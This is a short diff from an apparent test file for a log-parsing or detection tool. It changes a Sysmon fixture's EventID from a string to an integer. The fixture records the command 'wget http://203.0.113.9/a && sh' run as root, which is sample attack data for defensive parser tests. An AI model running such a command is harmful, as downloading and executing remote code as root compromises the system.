@@ -113,7 +113,7 @@ DAMAGED = 'May 13 15:29:59 web httpd: 203.0.113.9 - - [13/May/2026:15:29:59 +000
         ),
         (
             SYSMON,
-            {"Image": "/usr/bin/wget", "CommandLine": "wget http://203.0.113.9/a && sh", "EventID": "1", "User": "root"},
+            {"Image": "/usr/bin/wget", "CommandLine": "wget http://203.0.113.9/a && sh", "EventID": 1, "User": "root"},
             "process_creation", "sysmon",
         ),
         (
